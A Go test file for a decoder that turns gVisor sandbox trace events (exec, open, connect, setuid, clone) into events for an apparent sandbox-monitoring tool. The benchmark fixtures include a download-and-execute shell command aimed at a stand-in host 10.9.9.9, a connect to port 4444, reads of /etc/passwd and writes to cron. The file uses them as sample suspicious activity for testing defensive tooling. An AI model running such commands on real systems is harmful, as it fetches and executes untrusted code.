package sink

import (
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/proto"
	pb "gvisor.dev/gvisor/pkg/sentry/seccheck/points/points_go_proto"

	"github.com/sandscan/sandscan/trace"
)

const testTimeNs = 1_700_000_000_123456789

// ctxData is the context gVisor attaches when every ContextFields is on.
func ctxData(cid string, pid, tid int32) *pb.ContextData {
	return &pb.ContextData{
		TimeNs:              testTimeNs,
		ThreadId:            tid,
		ThreadGroupId:       pid,
		ParentThreadGroupId: 1,
		ContainerId:         cid,
		Cwd:                 "/work",
		ProcessName:         "sh",
		Credentials:         &pb.Credentials{RealUid: 1000, EffectiveUid: 0, EffectiveGid: 42},
	}
}

// ctxEvent is what ctxData decodes to.
func ctxEvent(kind trace.Kind, pid, tid int32) trace.Event {
	return trace.Event{
		Kind: kind, Time: time.Unix(0, testTimeNs).UTC(),
		PID: pid, TID: tid, PPID: 1, Comm: "sh", Cwd: "/work", UID: 0, GID: 42,
	}
}

func exit(ret, errno int64) *pb.Exit { return &pb.Exit{Result: ret, Errorno: errno} }

func marshal(t testing.TB, m proto.Message) []byte {
	t.Helper()
	b, err := proto.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func sockaddrIn(ip [4]byte, port uint16) []byte {
	return []byte{2, 0, byte(port >> 8), byte(port), ip[0], ip[1], ip[2], ip[3], 0, 0, 0, 0, 0, 0, 0, 0}
}

func TestDecode(t *testing.T) {
	sha := make([]byte, 32)
	sha[0], sha[31] = 0xab, 0x01
	with := func(kind trace.Kind, pid, tid int32, f func(e *trace.Event)) trace.Event {
		e := ctxEvent(kind, pid, tid)
		f(&e)
		return e
	}
	tests := []struct {
		name  string
		typ   pb.MessageType
		msg   proto.Message
		want  trace.Event
		cid   string
		enter bool
	}{
		{
			name: "container start",
			typ:  pb.MessageType_MESSAGE_CONTAINER_START,
			msg: &pb.Start{ContextData: ctxData("c1", 1, 1), Id: "c1", Cwd: "/app",
				Args: []string{"/bin/sh", "-c", "x"}, Env: []string{"A=1"}},
			want: with(trace.KindStart, 1, 1, func(e *trace.Event) {
				e.Cwd, e.Argv, e.Env = "/app", []string{"/bin/sh", "-c", "x"}, []string{"A=1"}
			}),
			cid: "c1",
		},
		{
			name: "container start without context routes by its id",
			typ:  pb.MessageType_MESSAGE_CONTAINER_START,
			msg:  &pb.Start{Id: "c9", Args: []string{"/init"}},
			want: trace.Event{Kind: trace.KindStart, Argv: []string{"/init"}},
			cid:  "c9",
		},
		{
			name: "sentry execve",
			typ:  pb.MessageType_MESSAGE_SENTRY_EXEC,
			msg: &pb.ExecveInfo{ContextData: ctxData("c1", 7, 7), BinaryPath: "/usr/bin/curl",
				Argv: []string{"curl", "http://x"}, Env: []string{"HOME=/"}, BinaryMode: 0o100755, BinarySha256: sha},
			want: with(trace.KindExec, 7, 7, func(e *trace.Event) {
				e.Path, e.Argv, e.Env, e.Mode = "/usr/bin/curl", []string{"curl", "http://x"}, []string{"HOME=/"}, 0o100755
				e.SHA256 = "ab" + strings.Repeat("00", 30) + "01"
			}),
			cid: "c1",
		},
		{
			name: "sentry execve with a short hash drops it",
			typ:  pb.MessageType_MESSAGE_SENTRY_EXEC,
			msg:  &pb.ExecveInfo{ContextData: ctxData("c1", 7, 7), BinaryPath: "/x", BinarySha256: []byte{1, 2}},
			want: with(trace.KindExec, 7, 7, func(e *trace.Event) { e.Path = "/x" }),
			cid:  "c1",
		},
		{
			name: "sentry clone of a process",
			typ:  pb.MessageType_MESSAGE_SENTRY_CLONE,
			msg:  &pb.CloneInfo{ContextData: ctxData("c1", 7, 7), CreatedThreadId: 9, CreatedThreadGroupId: 9, Flags: 0x11},
			want: with(trace.KindClone, 7, 7, func(e *trace.Event) { e.Child, e.Flags = 9, 0x11 }),
			cid:  "c1",
		},
		{
			name: "sentry clone of a thread",
			typ:  pb.MessageType_MESSAGE_SENTRY_CLONE,
			msg:  &pb.CloneInfo{ContextData: ctxData("c1", 7, 8), CreatedThreadId: 10, CreatedThreadGroupId: 7, Flags: 0x3d0f00},
			want: with(trace.KindClone, 7, 8, func(e *trace.Event) { e.Child, e.Flags, e.Thread = 10, 0x3d0f00, true }),
			cid:  "c1",
		},
		{
			name: "task exit with a code",
			typ:  pb.MessageType_MESSAGE_SENTRY_TASK_EXIT,
			msg:  &pb.TaskExit{ContextData: ctxData("c1", 7, 7), ExitStatus: 3 << 8},
			want: with(trace.KindExit, 7, 7, func(e *trace.Event) { e.Ret = 3 }),
			cid:  "c1",
		},
		{
			name: "task killed by SIGKILL",
			typ:  pb.MessageType_MESSAGE_SENTRY_TASK_EXIT,
			msg:  &pb.TaskExit{ContextData: ctxData("c1", 7, 7), ExitStatus: 9},
			want: with(trace.KindExit, 7, 7, func(e *trace.Event) { e.Ret = 137 }),
			cid:  "c1",
		},
		{
			name: "openat relative to the cwd",
			typ:  pb.MessageType_MESSAGE_SYSCALL_OPEN,
			msg: &pb.Open{ContextData: ctxData("c1", 7, 7), Exit: exit(3, 0), Sysno: sysOpenat,
				Fd: atFDCWD, Pathname: "../etc/passwd", Flags: 0o102, Mode: 0o644},
			want: with(trace.KindOpen, 7, 7, func(e *trace.Event) {
				e.Syscall, e.Path, e.Flags, e.Mode, e.Ret = "openat", "/etc/passwd", 0o102, 0o644, 3
			}),
			cid: "c1",
		},
		{
			name: "openat relative to a directory fd",
			typ:  pb.MessageType_MESSAGE_SYSCALL_OPEN,
			msg: &pb.Open{ContextData: ctxData("c1", 7, 7), Exit: exit(0, 2), Sysno: sysOpenat,
				Fd: 5, FdPath: "/etc/cron.d", Pathname: "job"},
			want: with(trace.KindOpen, 7, 7, func(e *trace.Event) {
				e.Syscall, e.Path, e.Ret, e.Errno = "openat", "/etc/cron.d/job", -2, 2
			}),
			cid: "c1",
		},
		{
			name: "creat",
			typ:  pb.MessageType_MESSAGE_SYSCALL_OPEN,
			msg: &pb.Open{ContextData: ctxData("c1", 7, 7), Exit: exit(4, 0), Sysno: sysCreat,
				Fd: atFDCWD, Pathname: "/tmp//x", Flags: 0o1101, Mode: 0o755},
			want: with(trace.KindOpen, 7, 7, func(e *trace.Event) {
				e.Syscall, e.Path, e.Flags, e.Mode, e.Ret = "creat", "/tmp/x", 0o1101, 0o755, 4
			}),
			cid: "c1",
		},
		{
			name: "connect enter",
			typ:  pb.MessageType_MESSAGE_SYSCALL_CONNECT,
			msg: &pb.Connect{ContextData: ctxData("c1", 7, 7), Sysno: sysConnect, Fd: 3,
				Address: sockaddrIn([4]byte{10, 9, 9, 9}, 4444)},
			want: with(trace.KindConnect, 7, 7, func(e *trace.Event) {
				e.Syscall, e.FD = "connect", 3
				e.Addr = &trace.SockAddr{Family: trace.FamilyInet, IP: "10.9.9.9", Port: 4444}
			}),
			cid: "c1", enter: true,
		},
		{
			name: "execve exit",
			typ:  pb.MessageType_MESSAGE_SYSCALL_EXECVE,
			msg: &pb.Execve{ContextData: ctxData("c1", 7, 7), Exit: exit(0, 0), Sysno: sysExecve,
				Pathname: "bin/x", Argv: []string{"x", "-y"}, Envv: []string{"A=B"}},
			want: with(trace.KindExecve, 7, 7, func(e *trace.Event) {
				e.Syscall, e.Path, e.Argv, e.Env = "execve", "/work/bin/x", []string{"x", "-y"}, []string{"A=B"}
			}),
			cid: "c1",
		},
		{
			name: "execveat of an fd with an empty path",
			typ:  pb.MessageType_MESSAGE_SYSCALL_EXECVE,
			msg: &pb.Execve{ContextData: ctxData("c1", 7, 7), Sysno: sysExecveat, Fd: 4,
				FdPath: "/memfd:x (deleted)", Flags: 0x1000},
			want: with(trace.KindExecve, 7, 7, func(e *trace.Event) {
				e.Syscall, e.Path, e.Flags = "execveat", "/memfd:x (deleted)", 0x1000
			}),
			cid: "c1", enter: true,
		},
		{
			name: "socket",
			typ:  pb.MessageType_MESSAGE_SYSCALL_SOCKET,
			msg:  &pb.Socket{ContextData: ctxData("c1", 7, 7), Exit: exit(3, 0), Sysno: sysSocket, Domain: 2, Type: 1, Protocol: 6},
			want: with(trace.KindSocket, 7, 7, func(e *trace.Event) {
				e.Syscall, e.Domain, e.Type, e.Protocol, e.Ret = "socket", 2, 1, 6, 3
			}),
			cid: "c1",
		},
		{
			name: "chdir",
			typ:  pb.MessageType_MESSAGE_SYSCALL_CHDIR,
			msg:  &pb.Chdir{ContextData: ctxData("c1", 7, 7), Exit: exit(0, 0), Sysno: sysChdir, Fd: atFDCWD, Pathname: "tmp"},
			want: with(trace.KindChdir, 7, 7, func(e *trace.Event) { e.Syscall, e.Path = "chdir", "/work/tmp" }),
			cid:  "c1",
		},
		{
			name: "fchdir",
			typ:  pb.MessageType_MESSAGE_SYSCALL_CHDIR,
			msg:  &pb.Chdir{ContextData: ctxData("c1", 7, 7), Exit: exit(0, 0), Sysno: sysFchdir, Fd: 3, FdPath: "/root"},
			want: with(trace.KindChdir, 7, 7, func(e *trace.Event) { e.Syscall, e.Path, e.FD = "fchdir", "/root", 3 }),
			cid:  "c1",
		},
		{
			name: "setuid",
			typ:  pb.MessageType_MESSAGE_SYSCALL_SETID,
			msg:  &pb.Setid{ContextData: ctxData("c1", 7, 7), Exit: exit(0, 0), Sysno: sysSetuid, Id: 0},
			want: with(trace.KindSetID, 7, 7, func(e *trace.Event) { e.Syscall, e.IDs = "setuid", []uint32{0} }),
			cid:  "c1",
		},
		{
			name: "setresgid",
			typ:  pb.MessageType_MESSAGE_SYSCALL_SETRESID,
			msg:  &pb.Setresid{ContextData: ctxData("c1", 7, 7), Exit: exit(-1, 1), Sysno: sysSetresgid, Rid: 1, Eid: 2, Sid: 3},
			want: with(trace.KindSetID, 7, 7, func(e *trace.Event) {
				e.Syscall, e.IDs, e.Ret, e.Errno = "setresgid", []uint32{1, 2, 3}, -1, 1
			}),
			cid: "c1",
		},
		{
			name: "setreuid through its raw point",
			typ:  pb.MessageType_MESSAGE_SYSCALL_RAW,
			msg:  &pb.Syscall{ContextData: ctxData("c1", 7, 7), Exit: exit(0, 0), Sysno: sysSetreuid, Arg1: 0xffffffff, Arg2: 0},
			want: with(trace.KindSetID, 7, 7, func(e *trace.Event) { e.Syscall, e.IDs = "setreuid", []uint32{0xffffffff, 0} }),
			cid:  "c1",
		},
		{
			name: "raw ptrace",
			typ:  pb.MessageType_MESSAGE_SYSCALL_RAW,
			msg:  &pb.Syscall{ContextData: ctxData("c1", 7, 7), Exit: exit(0, 1), Sysno: sysPtrace, Arg1: 16, Arg2: 1},
			want: with(trace.KindSyscall, 7, 7, func(e *trace.Event) {
				e.Syscall, e.Args, e.Ret, e.Errno = "ptrace", []uint64{16, 1, 0, 0, 0, 0}, -1, 1
			}),
			cid: "c1",
		},
		{
			name: "raw enter of an untraced number",
			typ:  pb.MessageType_MESSAGE_SYSCALL_RAW,
			msg:  &pb.Syscall{ContextData: ctxData("c1", 7, 7), Sysno: 999},
			want: with(trace.KindSyscall, 7, 7, func(e *trace.Event) { e.Syscall, e.Args = "sys_999", make([]uint64, 6) }),
			cid:  "c1", enter: true,
		},
		{
			name: "chroot",
			typ:  pb.MessageType_MESSAGE_SYSCALL_CHROOT,
			msg:  &pb.Chroot{ContextData: ctxData("c1", 7, 7), Exit: exit(0, 0), Sysno: sysChroot, Pathname: "/host"},
			want: with(trace.KindSyscall, 7, 7, func(e *trace.Event) { e.Syscall, e.Path = "chroot", "/host" }),
			cid:  "c1",
		},
		{
			name: "clone syscall",
			typ:  pb.MessageType_MESSAGE_SYSCALL_CLONE,
			msg:  &pb.Clone{ContextData: ctxData("c1", 7, 7), Exit: exit(0, 1), Sysno: sysClone, Flags: 0x10000000},
			want: with(trace.KindSyscall, 7, 7, func(e *trace.Event) {
				e.Syscall, e.Flags, e.Args, e.Ret, e.Errno = "clone", 0x10000000, []uint64{0x10000000}, -1, 1
			}),
			cid: "c1",
		},
		{
			name: "vfork",
			typ:  pb.MessageType_MESSAGE_SYSCALL_FORK,
			msg:  &pb.Fork{ContextData: ctxData("c1", 7, 7), Exit: exit(12, 0), Sysno: sysVfork},
			want: with(trace.KindSyscall, 7, 7, func(e *trace.Event) { e.Syscall, e.Ret = "vfork", 12 }),
			cid:  "c1",
		},
		{
			name: "bind to an abstract unix socket",
			typ:  pb.MessageType_MESSAGE_SYSCALL_BIND,
			msg: &pb.Bind{ContextData: ctxData("c1", 7, 7), Exit: exit(0, 0), Sysno: sysBind, Fd: 3,
				Address: append([]byte{1, 0, 0}, "hidden\x00\x00"...)},
			want: with(trace.KindBind, 7, 7, func(e *trace.Event) {
				e.Syscall, e.FD, e.Addr = "bind", 3, &trace.SockAddr{Family: trace.FamilyUnix, Path: "@hidden"}
			}),
			cid: "c1",
		},
		{
			name: "accept4",
			typ:  pb.MessageType_MESSAGE_SYSCALL_ACCEPT,
			msg: &pb.Accept{ContextData: ctxData("c1", 7, 7), Exit: exit(5, 0), Sysno: sysAccept4, Fd: 3,
				Address: sockaddrIn([4]byte{127, 0, 0, 1}, 40000), Flags: 0x80000},
			want: with(trace.KindAccept, 7, 7, func(e *trace.Event) {
				e.Syscall, e.FD, e.Ret, e.Flags = "accept4", 3, 5, 0x80000
				e.Addr = &trace.SockAddr{Family: trace.FamilyInet, IP: "127.0.0.1", Port: 40000}
			}),
			cid: "c1",
		},
		{
			name: "write to a socket",
			typ:  pb.MessageType_MESSAGE_SYSCALL_WRITE,
			msg:  &pb.Write{ContextData: ctxData("c1", 7, 7), Exit: exit(6, 0), Sysno: sysWrite, Fd: 3, FdPath: "socket:[12]", Count: 6},
			want: with(trace.KindWrite, 7, 7, func(e *trace.Event) {
				e.Syscall, e.FD, e.Path, e.Bytes, e.Ret = "write", 3, "socket:[12]", 6, 6
			}),
			cid: "c1",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d, err := decode(uint16(tt.typ), marshal(t, tt.msg))
			if err != nil {
				t.Fatalf("decode: %v", err)
			}
			if !reflect.DeepEqual(d.ev, tt.want) {
				t.Errorf("event\n got %+v\nwant %+v", d.ev, tt.want)
			}
			if d.cid != tt.cid || d.enter != tt.enter {
				t.Errorf("cid %q enter %v, want %q %v", d.cid, d.enter, tt.cid, tt.enter)
			}
			ev, cid, err := Decode(uint16(tt.typ), marshal(t, tt.msg))
			if err != nil || cid != tt.cid || !reflect.DeepEqual(ev, tt.want) {
				t.Errorf("Decode differs from decode: %v %q", err, cid)
			}
		})
	}
}

func TestDecodeErrors(t *testing.T) {
	tests := []struct {
		name    string
		typ     uint16
		payload []byte
		want    error
	}{
		{"write to a pipe", uint16(pb.MessageType_MESSAGE_SYSCALL_WRITE),
			marshal(t, &pb.Write{ContextData: ctxData("c", 1, 1), FdPath: "pipe:[3]", Count: 1 << 20}), ErrSkipped},
		{"write with no fd path", uint16(pb.MessageType_MESSAGE_SYSCALL_WRITE),
			marshal(t, &pb.Write{ContextData: ctxData("c", 1, 1), Fd: 1}), ErrSkipped},
		{"known type never asked for", uint16(pb.MessageType_MESSAGE_SYSCALL_READ),
			marshal(t, &pb.Read{Fd: 1}), ErrSkipped},
		{"type zero", 0, nil, ErrUnknownType},
		{"type from the future", 4000, []byte{8, 1}, ErrUnknownType},
		{"truncated varint", uint16(pb.MessageType_MESSAGE_SYSCALL_OPEN), []byte{0x18, 0xff}, ErrMalformed},
		{"length past the end", uint16(pb.MessageType_MESSAGE_CONTAINER_START), []byte{0x12, 0x7f, 'a'}, ErrMalformed},
		{"invalid utf-8 in a string", uint16(pb.MessageType_MESSAGE_CONTAINER_START), []byte{0x12, 0x02, 0xff, 0xfe}, ErrMalformed},
		{"broken write before the fd path", uint16(pb.MessageType_MESSAGE_SYSCALL_WRITE), []byte{0x2a, 0x09, 's'}, ErrMalformed},
		{"bad tag in a write", uint16(pb.MessageType_MESSAGE_SYSCALL_WRITE), []byte{0x00}, ErrMalformed},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, _, err := Decode(tt.typ, tt.payload)
			if !errors.Is(err, tt.want) {
				t.Fatalf("err %v, want %v", err, tt.want)
			}
		})
	}
}

func TestDecodeCapsUntrustedSizes(t *testing.T) {
	long := strings.Repeat("é", MaxPath) // two bytes a rune: cut mid-rune
	argv := make([]string, MaxArgs+10)
	for i := range argv {
		argv[i] = strings.Repeat("a", 100)
	}
	argv[0] = strings.Repeat("b", MaxArgLen*2)
	m := &pb.Execve{ContextData: ctxData(strings.Repeat("c", 5000), 1, 1), Sysno: sysExecve,
		Pathname: "/" + long, Argv: argv, Envv: []string{long, long, long}}
	ev, cid, err := Decode(uint16(pb.MessageType_MESSAGE_SYSCALL_EXECVE), marshal(t, m))
	if err != nil {
		t.Fatal(err)
	}
	if len(ev.Path) > MaxPath || !strings.HasPrefix(ev.Path, "/é") {
		t.Errorf("path of %d bytes", len(ev.Path))
	}
	if len(cid) > maxContainer {
		t.Errorf("container id of %d bytes", len(cid))
	}
	total := 0
	for _, a := range ev.Argv {
		total += len(a)
	}
	if len(ev.Argv[0]) != MaxArgLen || total > MaxArgBytes || len(ev.Argv) > MaxArgs {
		t.Errorf("argv: first %d bytes, %d entries, %d bytes in all", len(ev.Argv[0]), len(ev.Argv), total)
	}
	for _, s := range append(ev.Env, ev.Path, ev.Cwd) {
		if !strings.HasPrefix(s, "/") && !strings.HasPrefix(s, "é") || !isValidUTF8(s) {
			t.Errorf("cut string is not valid UTF-8 or lost its start: %q", s[:10])
		}
	}
}

func isValidUTF8(s string) bool { return strings.ToValidUTF8(s, "?") == s }

func TestCapList(t *testing.T) {
	tests := []struct {
		name string
		in   []string
		want []string
	}{
		{"nil stays nil", nil, nil},
		{"short list kept", []string{"a", "b"}, []string{"a", "b"}},
		{"entry cut", []string{strings.Repeat("x", MaxArgLen+1)}, []string{strings.Repeat("x", MaxArgLen)}},
		{"total cut", []string{strings.Repeat("x", MaxArgLen), strings.Repeat("y", MaxArgLen), strings.Repeat("z", MaxArgLen),
			strings.Repeat("w", MaxArgLen), "v"},
			[]string{strings.Repeat("x", MaxArgLen), strings.Repeat("y", MaxArgLen), strings.Repeat("z", MaxArgLen), strings.Repeat("w", MaxArgLen)}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := capList(tt.in); !reflect.DeepEqual(got, tt.want) {
				t.Errorf("got %d entries, want %d", len(got), len(tt.want))
			}
		})
	}
}

func TestResolve(t *testing.T) {
	tests := []struct {
		p      string
		fd     int64
		fdPath string
		cwd    string
		want   string
	}{
		{"/etc/./passwd", atFDCWD, "", "/", "/etc/passwd"},
		{"x", atFDCWD, "", "/home/u", "/home/u/x"},
		{"x", atFDCWD, "", "", "x"},
		{"x", 3, "/var/tmp", "/", "/var/tmp/x"},
		{"x", 3, "socket:[1]", "/", "x"},
		{"", 3, "/bin/busybox", "/", "/bin/busybox"},
		{"", atFDCWD, "", "/", ""},
	}
	for _, tt := range tests {
		if got := resolve(tt.p, tt.fd, tt.fdPath, tt.cwd); got != tt.want {
			t.Errorf("resolve(%q, %d, %q, %q) = %q, want %q", tt.p, tt.fd, tt.fdPath, tt.cwd, got, tt.want)
		}
	}
}

// FuzzDecode feeds arbitrary messages of every type to Decode: it must
// never panic and must keep its size limits.
func FuzzDecode(f *testing.F) {
	f.Add(uint16(pb.MessageType_MESSAGE_SYSCALL_EXECVE), marshal(f, &pb.Execve{ContextData: ctxData("c", 1, 1), Argv: []string{"a"}}))
	f.Add(uint16(pb.MessageType_MESSAGE_SYSCALL_CONNECT), marshal(f, &pb.Connect{Address: sockaddrIn([4]byte{1, 2, 3, 4}, 80)}))
	f.Add(uint16(pb.MessageType_MESSAGE_SYSCALL_WRITE), marshal(f, &pb.Write{FdPath: "socket:[1]"}))
	f.Add(uint16(pb.MessageType_MESSAGE_CONTAINER_START), marshal(f, &pb.Start{Id: "x", Env: []string{"A=B"}}))
	f.Add(uint16(pb.MessageType_MESSAGE_SYSCALL_RAW), marshal(f, &pb.Syscall{Sysno: sysSetreuid, Exit: exit(0, 0)}))
	f.Add(uint16(pb.MessageType_MESSAGE_SENTRY_CLONE), []byte{0x0a, 0x00})
	f.Fuzz(func(t *testing.T, typ uint16, payload []byte) {
		ev, cid, err := Decode(typ, payload)
		if err != nil {
			if !errors.Is(err, ErrMalformed) && !errors.Is(err, ErrSkipped) && !errors.Is(err, ErrUnknownType) {
				t.Fatalf("unexpected error kind: %v", err)
			}
			return
		}
		if len(ev.Path) > MaxPath || len(ev.Cwd) > MaxPath || len(cid) > maxContainer || len(ev.Argv) > MaxArgs || len(ev.Env) > MaxArgs {
			t.Fatalf("limits not kept: path %d cwd %d cid %d argv %d env %d", len(ev.Path), len(ev.Cwd), len(cid), len(ev.Argv), len(ev.Env))
		}
		if ev.Kind == "" {
			t.Fatal("event without a kind")
		}
	})
}

// benchMix is a run's usual mix: mostly opens, some execs, connects,
// clones and exits, and writes to stdout that are skipped.
func benchMix(b testing.TB) (types []uint16, payloads [][]byte) {
	add := func(typ pb.MessageType, m proto.Message, n int) {
		p := marshal(b, m)
		for range n {
			types, payloads = append(types, uint16(typ)), append(payloads, p)
		}
	}
	c := ctxData("0123456789abcdef", 7, 7)
	add(pb.MessageType_MESSAGE_SYSCALL_OPEN, &pb.Open{ContextData: c, Exit: exit(3, 0), Sysno: sysOpenat, Fd: atFDCWD,
		Pathname: "/usr/lib/x86_64-linux-gnu/libc.so.6", Flags: 0o2000000}, 60)
	add(pb.MessageType_MESSAGE_SYSCALL_WRITE, &pb.Write{ContextData: c, Exit: exit(4096, 0), Sysno: sysWrite, Fd: 1,
		FdPath: "host:[3]", Count: 4096}, 20)
	add(pb.MessageType_MESSAGE_SYSCALL_EXECVE, &pb.Execve{ContextData: c, Sysno: sysExecve, Pathname: "/bin/sh",
		Argv: []string{"sh", "-c", "wget http://10.9.9.9/x -O /tmp/x && chmod +x /tmp/x && /tmp/x"},
		Envv: []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/root", "HOSTNAME=abc"}}, 5)
	add(pb.MessageType_MESSAGE_SENTRY_EXEC, &pb.ExecveInfo{ContextData: c, BinaryPath: "/bin/busybox",
		Argv: []string{"wget", "http://10.9.9.9/x"}, BinarySha256: make([]byte, 32)}, 5)
	add(pb.MessageType_MESSAGE_SYSCALL_CONNECT, &pb.Connect{ContextData: c, Sysno: sysConnect, Fd: 3,
		Address: sockaddrIn([4]byte{10, 9, 9, 9}, 80)}, 4)
	add(pb.MessageType_MESSAGE_SENTRY_CLONE, &pb.CloneInfo{ContextData: c, CreatedThreadId: 8, CreatedThreadGroupId: 8}, 3)
	add(pb.MessageType_MESSAGE_SYSCALL_RAW, &pb.Syscall{ContextData: c, Exit: exit(0, 0), Sysno: sysChmod, Arg1: 1, Arg2: 0o755}, 3)
	return types, payloads
}

func BenchmarkDecode(b *testing.B) {
	types, payloads := benchMix(b)
	b.ReportAllocs()
	b.ResetTimer()
	start := time.Now()
	for i := 0; i < b.N; i++ {
		j := i % len(types)
		if _, _, err := Decode(types[j], payloads[j]); err != nil && !errors.Is(err, ErrSkipped) {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.N)/time.Since(start).Seconds(), "events/s")
}
